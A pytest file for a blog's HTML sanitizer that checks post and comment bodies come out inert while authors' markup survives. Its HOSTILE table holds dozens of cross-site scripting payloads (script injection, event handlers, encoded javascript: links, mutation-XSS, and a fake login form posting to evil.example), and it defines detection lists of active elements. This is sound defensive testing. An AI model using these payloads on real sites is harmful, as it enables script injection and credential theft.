"""The sanitizer: hostile HTML comes out inert; what authors need stays.

`sanitize_post_html` guards post bodies (and runs on every `Post.save`),
`sanitize_comment_html` guards readers' comments with a smaller allowlist.
"""

import re
from html.parser import HTMLParser

import pytest

from core.sanitize import sanitize_comment_html, sanitize_post_html
from posts.models import Post
from tests.conftest import make_post

# Elements that run code, load content, restyle or take over the page, or submit data.
ACTIVE_ELEMENTS = {
    "applet", "base", "button", "embed", "form", "frame", "frameset", "iframe",
    "input", "link", "math", "meta", "noembed", "noframes", "noscript", "object", "option",
    "plaintext", "portal", "script", "select", "style", "svg", "template",
    "textarea", "track", "xmp",
}  # fmt: skip
# Players are inert only while they play this site's files, with controls, never by themselves.
MEDIA_ELEMENTS = {"audio", "video", "source"}
# Attributes that restyle the page, refresh it, or send the reader elsewhere on their own.
ACTIVE_ATTRIBUTES = {"style", "http-equiv", "formaction", "action", "target", "srcdoc"}
URL_ATTRIBUTES = {
    "href", "src", "srcset", "cite", "action", "formaction", "data", "poster", "background",
    "xlink:href", "ping", "longdesc", "usemap", "manifest",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}


class _Elements(HTMLParser):
    """Start tags with their attributes (entities decoded, as a browser sees them), and text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data):
        self.text.append(data)


def parse(html):
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


def urls_in(attribute, value):
    if attribute == "srcset":
        return [candidate.split()[0] for candidate in value.split(",") if candidate.split()]
    return [value]


def scheme_of(url):
    # Browsers drop tabs and newlines anywhere in a URL and trim control characters and spaces.
    url = re.sub(r"[\t\n\r]", "", url).strip(
        "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c"
        "\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18"
        "\x19\x1a\x1b\x1c\x1d\x1e\x1f "
    )
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    return match.group(1).lower() if match else None


def active_parts(html):
    """Everything in `html` that could run, load, restyle or redirect; empty when inert."""
    found = []
    if re.search(r"<\s*script", html, re.IGNORECASE):
        found.append("<script")
    if "<!--" in html.replace("<!--more-->", "", 1):
        found.append("comment")
    for tag, attributes in parse(html).elements:
        if tag in ACTIVE_ELEMENTS:
            found.append(f"<{tag}>")
        if tag in MEDIA_ELEMENTS:
            found += [f"<{tag} {name}>" for name in ("autoplay",) if name in attributes]
            for name in ("src", "poster"):
                url = attributes.get(name, "/")
                if not url.startswith("/") or url.startswith("//"):
                    found.append(f"<{tag} {name}={url}>")
        for name, value in attributes.items():
            if name.startswith("on") or name in ACTIVE_ATTRIBUTES:
                found.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES:
                for url in urls_in(name, value):
                    scheme = scheme_of(url)
                    if scheme and scheme not in SAFE_SCHEMES:
                        found.append(f"<{tag} {name}={scheme}:>")
    return found


def text_of(html):
    return " ".join(" ".join(parse(html).text).split())


HOSTILE = {
    "script": "<script>alert(1)</script><p>Hello</p>",
    "script-src-uppercase": '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "event-handlers": '<p onclick="alert(1)" onmouseover="alert(2)">Hover</p>',
    "javascript-link": '<a href="javascript:alert(1)">Click</a>',
    "javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">Click</a>',
    "javascript-entity-encoded": '<a href="&#106;avascript:alert(1)">Click</a>',
    "javascript-hex-entities": '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">Click</a>',
    "javascript-whitespace": '<a href=" \tjava\nscript:alert(1)">Click</a>',
    "vbscript-link": '<a href="vbscript:msgbox(1)">Click</a>',
    "data-html-link": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Click</a>'
    ),
    "data-image": '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "svg-onload": '<svg onload="alert(1)"><circle r="10"/></svg>',
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>Click</text></a></svg>',
    "style-block": "<style>body { display: none }</style><p>Text</p>",
    "style-attribute": (
        '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Overlay</p>'
    ),
    "form-input": (
        '<form action="https://evil.example/login"><input name="password" type="password">'
        "<button>Log in</button></form>"
    ),
    "button-formaction": '<button formaction="javascript:alert(1)">Go</button>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base-href": '<base href="https://evil.example/">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "unclosed-tags": '<p><b><a href="javascript:alert(1)">Click<script>alert(1)',
    "unclosed-iframe": '<div><iframe src="https://evil.example/">',
    "comment-hiding-script": "<!-- <script>alert(1)</script> -->",
    "abruptly-closed-comment": "<!--><script>alert(1)</script>-->",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "math-mutation": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"
        "</mglyph></table></mtext></math>"
    ),
    "math-href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "details-ontoggle": '<details open ontoggle="alert(1)"><summary>More</summary></details>',
    "video-source": '<video><source onerror="alert(1)"></video>',
    "video-remote": '<video src="https://tracker.example/v.mp4" autoplay></video>',
    "audio-remote-source": '<audio><source src="https://tracker.example/a.mp3"></audio>',
    "video-protocol-relative-poster": '<video poster="//tracker.example/p.jpg"></video>',
    "stray-comment-beside-more": "<p>a</p><!--more--><p>b</p><!-- secret -->",
    "target-blank": '<a href="https://example.com/" target="_blank">Tab</a>',
    "img-srcset-javascript": (
        '<img src="https://example.com/a.png" srcset="javascript:alert(1) 1x">'
    ),
    "img-srcset-second-candidate": (
        '<img src="/a.png" srcset="/a.png 1x, javascript:alert(1) 2x">'
    ),
    "q-cite-entity-encoded": '<q cite="&#106;avascript:alert(1)">Quote</q>',
    "blockquote-cite-javascript": '<blockquote cite="javascript:alert(1)">Quote</blockquote>',
}


def hostile_cases():
    return [pytest.param(html, id=name) for name, html in HOSTILE.items()]


@pytest.mark.parametrize("html", hostile_cases())
def test_each_hostile_input_is_seen_as_active_by_this_test(html):
    """Guards the guard: each case would fail below if a sanitizer let it through unchanged."""
    assert active_parts(html)


@pytest.mark.parametrize("html", hostile_cases())
def test_post_sanitizer_leaves_nothing_active(html):
    assert active_parts(sanitize_post_html(html)) == []


@pytest.mark.parametrize("html", hostile_cases())
def test_comment_sanitizer_leaves_nothing_active(html):
    assert active_parts(sanitize_comment_html(html)) == []


AUTHOR_MARKUP = [
    pytest.param(
        "<h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6>",
        id="headings",
    ),
    pytest.param("<p>A paragraph.</p><p>Another one.</p>", id="paragraphs"),
    pytest.param(
        '<blockquote cite="https://example.com/source"><p>Quoted words.</p></blockquote>',
        id="blockquote",
    ),
    pytest.param("<ul><li>One</li><li>Two</li></ul>", id="unordered-list"),
    pytest.param('<ol start="3"><li>Three</li><li>Four</li></ol>', id="ordered-list"),
    pytest.param('<p><a href="https://example.com/page">secure</a></p>', id="https-link"),
    pytest.param('<p><a href="http://example.com/page">plain</a></p>', id="http-link"),
    pytest.param('<p><a href="mailto:someone@example.com">mail</a></p>', id="mailto-link"),
    pytest.param('<p><a href="/2024/05/01/hello/">relative</a></p>', id="relative-link"),
    pytest.param(
        '<img src="https://example.com/photo.jpg" alt="A photo" width="640" height="480">',
        id="image",
    ),
    pytest.param(
        '<img src="/media/a.jpg" srcset="/media/a-480w.jpg 480w, https://example.com/a.jpg 800w"'
        ' sizes="100vw" alt="Responsive">',
        id="image-srcset",
    ),
    pytest.param(
        '<figure><img src="/media/a.png" alt="Chart"><figcaption>The chart</figcaption></figure>',
        id="figure",
    ),
    pytest.param("<p>Call <code>save()</code> first.</p>", id="inline-code"),
    pytest.param("<pre><code>def f():\n    return 1\n</code></pre>", id="code-block"),
    pytest.param(
        "<table><caption>Scores</caption><thead><tr><th>Name</th><th>Score</th></tr></thead>"
        "<tbody><tr><td>Ada</td><td>10</td></tr></tbody></table>",
        id="table",
    ),
    pytest.param("<p><em>Emphasis</em> and <strong>strong</strong>.</p>", id="em-strong"),
    pytest.param('<p class="aligncenter">Centred</p>', id="aligncenter"),
    pytest.param('<img class="alignleft" src="/media/a.png" alt="Left">', id="alignleft"),
    pytest.param(
        '<figure class="wp-caption alignright"><img src="/media/a.png" alt="Right">'
        '<figcaption class="wp-caption-text">Caption</figcaption></figure>',
        id="wp-caption",
    ),
]


@pytest.mark.parametrize("html", AUTHOR_MARKUP)
def test_post_sanitizer_keeps_author_markup(html):
    cleaned = sanitize_post_html(html)
    before, after = parse(html).elements, parse(cleaned).elements
    assert [tag for tag, _ in after] == [tag for tag, _ in before]
    for (tag, wanted), (_, kept) in zip(before, after, strict=True):
        assert wanted.items() <= kept.items(), f"<{tag}> lost attributes"
    assert text_of(cleaned) == text_of(html)


def test_post_sanitizer_drops_classes_outside_the_alignment_set():
    cleaned = sanitize_post_html('<p class="evil-overlay">Text</p>')
    assert "evil-overlay" not in cleaned
    assert text_of(cleaned) == "Text"


def test_post_sanitizer_keeps_text_of_removed_elements_escaped():
    cleaned = sanitize_post_html("<p>Use <marquee>less</marquee> markup & 1 < 2</p>")
    assert "<marquee" not in cleaned
    assert text_of(cleaned) == "Use less markup & 1 < 2"


COMMENT_MARKUP = [
    pytest.param("<p>Plain paragraph.</p>", id="paragraph"),
    pytest.param("<p><em>em</em> <strong>strong</strong> <b>b</b> <i>i</i></p>", id="inline"),
    pytest.param("<p><code>x = 1</code></p><pre>block</pre>", id="code"),
    pytest.param("<blockquote><p>Quoted.</p></blockquote>", id="blockquote"),
    pytest.param('<p><a href="https://example.com/">link</a></p>', id="link"),
    pytest.param("<p><del>old</del> <q>said</q> <abbr>HTML</abbr></p>", id="del-q-abbr"),
]


@pytest.mark.parametrize("html", COMMENT_MARKUP)
def test_comment_sanitizer_keeps_the_small_comment_set(html):
    cleaned = sanitize_comment_html(html)
    before, after = parse(html).elements, parse(cleaned).elements
    assert [tag for tag, _ in after] == [tag for tag, _ in before]
    for (tag, wanted), (_, kept) in zip(before, after, strict=True):
        assert wanted.items() <= kept.items(), f"<{tag}> lost attributes"


@pytest.mark.parametrize(
    "html",
    [
        pytest.param("<h2>Heading</h2>", id="heading"),
        pytest.param('<img src="https://example.com/a.png" alt="Picture">', id="image"),
        pytest.param("<table><tr><td>Cell</td></tr></table>", id="table"),
        pytest.param("<ul><li>Item</li></ul>", id="list"),
        pytest.param("<div>Block <span>inline</span></div>", id="div-span"),
        pytest.param("<figure><figcaption>Caption</figcaption></figure>", id="figure"),
    ],
)
def test_comment_sanitizer_drops_tags_beyond_the_comment_set(html):
    cleaned = sanitize_comment_html(html)
    assert parse(cleaned).elements == []
    assert text_of(cleaned) == text_of(html)


def test_comment_sanitizer_drops_classes():
    assert "class" not in sanitize_comment_html('<p class="aligncenter">Text</p>')


def test_comment_links_are_marked_nofollow_ugc():
    cleaned = sanitize_comment_html('<a href="https://example.com/">site</a>')
    (_, attributes) = parse(cleaned).elements[0]
    assert {"nofollow", "ugc"} <= set(attributes["rel"].split())


def test_comment_links_cannot_choose_their_own_rel():
    cleaned = sanitize_comment_html('<a href="https://example.com/" rel="me follow">site</a>')
    (_, attributes) = parse(cleaned).elements[0]
    assert {"nofollow", "ugc"} <= set(attributes["rel"].split())
    assert "me" not in attributes["rel"].split()


@pytest.mark.django_db
def test_saving_a_post_sanitizes_its_body():
    post = make_post(
        body='<p onclick="alert(1)">Hello</p><script>alert(2)</script>'
        '<a href="javascript:alert(3)">link</a><iframe src="https://evil.example/"></iframe>'
    )
    stored = Post.objects.get(pk=post.pk).body
    assert active_parts(stored) == []
    assert text_of(stored) == "Hello link"


@pytest.mark.django_db
def test_saving_a_post_keeps_author_markup():
    body = '<h2>Part one</h2><blockquote><p>Quoted.</p></blockquote><p><a href="https://example.com/">x</a></p>'
    post = make_post(body=body)
    stored = Post.objects.get(pk=post.pk).body
    assert [tag for tag, _ in parse(stored).elements] == ["h2", "blockquote", "p", "p", "a"]
    assert parse(stored).elements[-1][1]["href"] == "https://example.com/"


@pytest.mark.django_db
def test_updating_a_post_sanitizes_the_new_body():
    post = make_post()
    post.body = "<p>Edited</p><img src=x onerror=alert(1)>"
    post.save()
    assert active_parts(Post.objects.get(pk=post.pk).body) == []


def words(count, start=1):
    return " ".join(f"word{n}" for n in range(start, start + count))


@pytest.mark.django_db
def test_empty_excerpt_is_the_first_55_words_with_an_ellipsis():
    post = make_post(body=f"<p>{words(40)} <em>{words(20, start=41)}</em></p>", excerpt="")
    assert Post.objects.get(pk=post.pk).excerpt == f"{words(55)}…"


@pytest.mark.django_db
def test_empty_excerpt_of_a_short_body_is_all_its_text_without_an_ellipsis():
    post = make_post(body="<p>Short <strong>and</strong> sweet.</p>", excerpt="")
    assert Post.objects.get(pk=post.pk).excerpt == "Short and sweet."


@pytest.mark.django_db
def test_body_of_exactly_55_words_is_not_marked_truncated():
    post = make_post(body=f"<p>{words(55)}</p>", excerpt="")
    assert Post.objects.get(pk=post.pk).excerpt == words(55)


@pytest.mark.django_db
def test_derived_excerpt_leaves_out_removed_script_text():
    post = make_post(body="<script>stealCookies()</script><p>Visible words.</p>", excerpt="")
    assert Post.objects.get(pk=post.pk).excerpt == "Visible words."


@pytest.mark.django_db
def test_derived_excerpt_keeps_words_of_adjacent_blocks_apart():
    post = make_post(body="<p>First paragraph.</p><p>Second paragraph.</p>", excerpt="")
    assert Post.objects.get(pk=post.pk).excerpt == "First paragraph. Second paragraph."


@pytest.mark.django_db
def test_derived_excerpt_is_plain_text_with_entities_decoded():
    post = make_post(body="<p>Tom & Jerry say 1 &lt; 2</p>", excerpt="")
    assert Post.objects.get(pk=post.pk).excerpt == "Tom & Jerry say 1 < 2"


@pytest.mark.django_db
def test_given_excerpt_is_kept():
    post = make_post(body=f"<p>{words(80)}</p>", excerpt="My own summary.")
    assert Post.objects.get(pk=post.pk).excerpt == "My own summary."
